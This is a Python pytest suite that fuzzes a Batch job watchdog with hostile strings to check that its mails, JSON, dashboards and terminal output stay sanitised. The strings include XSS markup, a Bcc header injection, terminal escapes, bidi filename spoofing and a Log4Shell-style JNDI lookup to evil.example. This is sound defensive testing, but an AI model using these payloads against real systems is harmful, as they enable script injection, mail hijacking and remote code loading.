"""Whatever stands in names, reasons and tags: operators get it harmless, and get all the rest."""

import io
import json
import random
import re
from collections import Counter
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console

from local.replay import replay
from local.replay.event_log import read_log
from local.replay.timeline import Timeline
from tests import logs
from tests.makers import PREFIX, a_child_event, a_failure, a_parent_event, an_event
from tests.unit.guards.signals.test_envelope import (
    a_budget_text,
    an_alarm_message,
    an_anomaly,
    an_sns_record,
)
from tests.whole import Whole, the_stack

pytestmark = pytest.mark.long

_chance = random.Random(1)  # noqa: S311 - it need only be the same each time

POISONS = {
    "markup": "<script>alert('x')</script>&lt;b&gt;<img src=x onerror=\"alert`1`\">",
    "chat": "<!channel> <@U1> <http://evil.example|click> [x](http://evil.example) *b* @here",
    "header": "x\r\nBcc: evil@example.com\r\n\r\nTo resubmit: 0-9999\nNothing to do.",
    "direction": "txt.\u202egpj.exe\u202c\u2066a\u2069\u061c\u200b\u200d\ufeff\u00ad\U000e0041z",
    "halves": "a\ud83db\udc00\ud800",
    "terminal": "\x1b[5;41mred\x1b[0m\x1b]0;title\x07\x9b2Jx\x08\x08",
    "rich": "[red]x[/red] [link=http://evil.example]y[/link] [/] \\[z [@click=app.quit]q[/]",
    "controls": "a\x00b\x7fc\x85d\u2028e\u2029f\u3000g\ufffe",
    "formats": '{0} {x!r} %s %(a)s ${jndi:ldap://evil.example} "}],"x":[{"\\u0000',
    "nothing": "\u200b\u2060\n",
    "long": "<b>&\n" * 60_000,
    "long and of all kinds": "".join(map(chr, _chance.choices(range(0x3000, 0xD000), k=100_000))),
}
HARMLESS = "harmless"
NAME_MAX = 128  # characters of a queue's name, of which Batch itself sees to it
# A policy takes nothing but characters that can be seen; a guard's name has at most 64.
GUARD = "<script>&[red]{0}%s<!channel>\\\"'"

POLICY = f"""
mode = "enforce"

[notify]
digest_over = 50
fold = "0s"

[[array]]
match = {{ name = ["*", "{"<b>[red]" * 25}"] }}
progress = [10]
stop_rest_when = {{ failed = 1 }}

[[limit]]
match = {{ queue = ["*", "<i>[/]"] }}
RUNNABLE = {{ warn_after = "1m", after = "3m", action = "cancel" }}

[[guard]]
name = {json.dumps(GUARD)}
[[guard.stage]]
alarms = ["spend", "monitor", "monthly"]
action = "cancel"
close_queues = true
"""

UNDER_WAY = "7c0b7a52-66f2-4a0b-8bd0-5f7d2f1c9a11"


def jobs(poison: str) -> list[Any]:
    """Jobs that give rise to notices of every kind, with this text wherever there is text."""
    queue = f"{PREFIX}job-queue/{poison[:NAME_MAX]}"
    named: dict[str, Any] = {
        "jobName": poison,
        "jobQueue": queue,
        "jobDefinition": f"{PREFIX}job-definition/{poison}:1",
        "statusReason": poison,
        "tags": {poison: poison, "batch-watchdog:RUNNABLE": poison},
        "parameters": {poison: poison},
    }
    container: Any = {"exitCode": 1, "reason": poison, "logStreamName": poison}
    failed = named | {"container": container, "attempts": [{"container": container}]}
    return [
        a_failure(jobId="failed", **failed),
        a_failure(jobId="served", kind="Batch Service Job State Change", **failed)
        | {"detail-type": "Batch Service Job State Change"},
        an_event(jobId="waiting", **named | {"tags": {poison: poison}}),
        an_event(jobId="tagged", **named),
        an_event(kind="Batch Job Queue Blocked", jobId="waiting", **named | {"tags": {}}),
        *(a_child_event(each, "FAILED", "12:00", **failed) for each in range(2)),
        a_child_event(2, "SUCCEEDED", "12:00", **named),
        a_parent_event(3, failed=2, clock="12:00", **named),
        an_event(jobId=UNDER_WAY, **named | {"status": "PENDING", "arrayProperties": {"size": 9}}),
        *(
            a_child_event(each, "FAILED", "12:00", array_id=UNDER_WAY, **failed)
            for each in range(2)
        ),
        *(a_child_event(each, "RUNNING", array_id=UNDER_WAY, **named) for each in range(2, 9)),
    ]


def stray(poison: str) -> list[Any]:
    """Events of jobs that Batch does not know, in a queue that cannot be."""
    megabyte = poison * (1_000_000 // len(poison.encode("utf-8", "replace")))
    named: dict[str, Any] = {
        "jobName": poison,
        "jobQueue": poison,
        "statusReason": megabyte,
        "tags": {poison: poison},
    }
    return [
        a_failure(jobId="stray", **named),
        a_child_event(1, array_id="stray-array", **named),
        an_event(kind="Batch Job Queue Blocked", jobId="stray", **named),
    ]


def world(poison: str) -> dict[str, Any]:
    """The jobs' queue, with an environment that is in trouble."""
    environment = f"{PREFIX}compute-environment/{poison[:NAME_MAX]}"
    queue = f"{PREFIX}job-queue/{poison[:NAME_MAX]}"
    return {
        "jobQueues": [
            {
                "jobQueueName": queue.rpartition("/")[2],
                "jobQueueArn": queue,
                "state": "ENABLED",
                "status": "VALID",
                "statusReason": poison,
                "priority": 1,
                "computeEnvironmentOrder": [{"order": 1, "computeEnvironment": environment}],
            }
        ],
        "computeEnvironments": [
            {
                "computeEnvironmentName": environment.rpartition("/")[2],
                "computeEnvironmentArn": environment,
                "state": "ENABLED",
                "status": "INVALID",
                "statusReason": poison,
                "type": "MANAGED",
            }
        ],
    }


def money(poison: str) -> list[Any]:
    """Words about money; the last three are not understood. SNS carries 256 KB."""
    poison = poison[:40_000]
    records = [
        an_sns_record(an_alarm_message(AlarmName="spend", NewStateReason=poison)),
        an_sns_record(an_anomaly(monitorName="monitor", dimensionalValue=poison)),
        an_sns_record(a_budget_text(Budget_Name="monthly", ACTUAL_Amount=poison.split("\n")[0])),
        an_sns_record(poison),
        an_sns_record({"AlarmName": poison, "NewStateValue": poison}),
        an_sns_record(f"Budget Name: {poison}\nAlert Type: {poison}"),
        an_sns_record("nothing", Subject=f'ALARM: "{poison}"'),
    ]
    return [{"Records": [record]} for record in records]


@cache
def seen(poison: str) -> Whole:
    """The stack after all of this has come in, and some time."""
    whole = Whole(POLICY)
    whole.batch.add_world(world(poison))
    events = jobs(poison)
    whole.batch.load(events)
    for event in [*events, *stray(poison)]:
        whole.dispatcher.deliver(event, json.dumps(event))
    whole.run(minutes=6)
    for payload in money(poison):
        whole.invoke("spend_alarm", json.dumps(payload))
    whole.run(minutes=3)
    by = poison.encode("utf-8", "replace").decode()[:200] + "x"
    whole.ask(
        {"command": "exempt", "job_id": "x", "until": "2027-01-01T00:00:00Z", "by": by[-200:]}
    )
    whole.ask({"command": "release", "guard": GUARD, "by": by[-200:], "why": by})
    whole.ask({"command": "hold", "by": by[-200:], "why": by})
    for name in whole.dispatcher.parameters:
        whole.dispatcher.parameters[name] = f'"{poison[:1_000]}" = 1\nmode = "{poison[:1_000]}"'
    whole.run(minutes=3)
    return whole


@pytest.fixture(params=list(POISONS.values()), ids=list(POISONS))
def poison(request: pytest.FixtureRequest) -> str:
    return str(request.param)


def test_nothing_breaks_and_nothing_is_lost(poison: str) -> None:
    whole, harmless = seen(poison), seen(HARMLESS)

    assert whole.errors == []
    assert Counter(each["notice"] for each in whole.facts) == Counter(
        each["notice"] for each in harmless.facts
    )
    assert whole.told >= {"job-failed:failed", "job-failed:served", "job-failed:stray"}
    assert len(whole.letters) == len(harmless.letters) == 3
    assert all(reason and reason.isprintable() for reason, _ in whole.letters)


def test_a_mail_has_the_lines_that_we_wrote_and_shows_all_else_in_plain_words(poison: str) -> None:
    whole, harmless = seen(poison), seen(HARMLESS)

    subjects = [each["Subject"] for each in whole.messages]
    assert all(each.isprintable() and len(each) < 100 for each in subjects)
    lines = [line for mail in whole.mails for line in mail.split("\n")]
    assert all(line.isprintable() for line in lines)
    assert not {"<", ">"} & set("".join([*subjects, *lines]))
    assert all(length <= lengths(harmless)[kind] for kind, length in lengths(whole).items())


def lengths(whole: Whole) -> dict[str, int]:
    """How many lines the longest mail of each kind has, but for a policy's list of problems."""
    ours = [each for each in whole.facts if "problems" not in each["facts"]]
    return {
        kind: max(each["text"].count("\n") for each in ours if each["notice"] == kind)
        for kind in {each["notice"] for each in ours}
    }


def test_programs_get_names_as_they_are_in_strict_json(poison: str) -> None:
    whole = seen(poison)

    facts = {
        content["id"]: content["facts"]
        for message in whole.messages
        for content in [
            json.loads(
                json.loads(message["Message"], parse_constant=refuse)["default"],
                parse_constant=refuse,
            )
        ]
    }

    name = poison.encode("utf-8", "replace").decode()
    told = facts["job-failed:failed"]
    assert told["job_name"] == name[: len(told["job_name"])]
    assert len(told["job_name"]) == min(len(poison), 500)
    assert told["reason"] == name[: len(told["reason"])]
    assert len(told["reason"]) == min(len(poison), 1_000)


def refuse(constant: str) -> None:
    raise AssertionError(f"{constant} is no JSON")


def test_the_console_answers_in_plain_words(poison: str) -> None:
    whole = seen(poison)

    for command in (
        {"command": "status"},
        *({"command": "explain", "job_id": each} for each in ("failed", "tagged", "waiting")),
    ):
        answer = whole.ask(command)
        assert "error" not in answer
        assert all(text.isprintable() and len(text) < 2_000 for text in strings(answer))


@pytest.mark.parametrize(
    "command",
    [
        {"command": "{}"},
        {"command": "status", "{}": 1},
        {"command": "release", "by": "{}", "guard": "{}"},
        {"command": "explain", "job_id": "{}"},
        {"command": "exempt", "by": "x", "job_id": "x", "until": "{}"},
        {"time": "{}"},
        "{}",
    ],
    ids=str,
)
def test_a_refusal_quotes_nothing_that_could_do_harm(poison: str, command: Any) -> None:
    filled = json.loads(json.dumps(command).replace("{}", json.dumps(poison)[1:-1]))

    answer = seen(HARMLESS).ask(filled)

    assert answer["error"]
    assert all(text.isprintable() and len(text) < 2_000 for text in strings(answer))


@pytest.mark.parametrize("page", ["overview", "actions", "rules", "job", "{}"])
def test_a_dashboard_is_shown_nothing_that_could_do_harm(poison: str, page: str) -> None:
    context = {"{}": "{}", "theme": "{}", "dashboardName": "{}", "forms": {"all": {"by": "{}"}}}
    asked = {"page": page, "job_id": "{}", "act": {"command": "{}"}, "widgetContext": context}
    filled = json.loads(json.dumps(asked).replace("{}", json.dumps(poison)[1:-1]))

    answer = seen(HARMLESS).ask(filled)

    assert "<section" in answer
    assert not {"img", "script", "iframe"} & set(re.findall(r"<(\w+)", answer))


def strings(tree: Any) -> Iterator[str]:
    match tree:
        case str():
            yield tree
        case dict():
            for key, value in tree.items():
                yield from (key, *strings(value))
        case list():
            for each in tree:
                yield from strings(each)


def test_batch_keeps_a_reason_that_is_ours_alone(poison: str) -> None:
    stops = [call for call in seen(poison).batch.journal if call.jobs]

    assert stops
    assert all(call.reason.isprintable() and len(call.reason) <= 1_024 for call in stops)
    assert {call.reason for call in stops} == {
        call.reason for call in seen(HARMLESS).batch.journal if call.jobs
    }


def test_a_terminal_shows_what_was_replayed_and_minds_nothing_of_it(
    poison: str, tmp_path: Path
) -> None:
    # What a terminal minds is in the first characters; the whole of a long text takes minutes.
    shown, expected = (played(text[:5_000], tmp_path) for text in (poison, HARMLESS))

    # Colours and lines are ours, as they are for a harmless log.
    assert set(COLOUR.findall(shown)) == set(COLOUR.findall(expected))
    lines = COLOUR.sub("", shown).split("\n")
    assert all(line.isprintable() for line in lines)
    assert all(OUR_LINE.match(line) for line in lines)
    if poison == POISONS["rich"]:
        assert "[red]x[/red] [link=http://evil.example]y[/link] [/] \\[z" in shown


COLOUR = re.compile("\x1b\\[[0-9;]*m")
OUR_LINE = re.compile("── |[0-9:]{8}  | {10}|[0-9]+ (events;|jobs? )|$")


def played(poison: str, folder: Path) -> str:
    """What the timeline of a replay writes to a terminal."""
    log = logs.write(folder / "log.jsonl", [*jobs(poison), *stray(poison), *money(poison)])
    timeline = Timeline(
        Console(file=(file := io.StringIO()), force_terminal=True, highlight=False, soft_wrap=True)
    )
    replay.replay(
        read_log(log),
        stack=the_stack(),
        write_row=timeline.write_row,
        policy=POLICY,
        world=world(poison),
    )
    return file.getvalue()
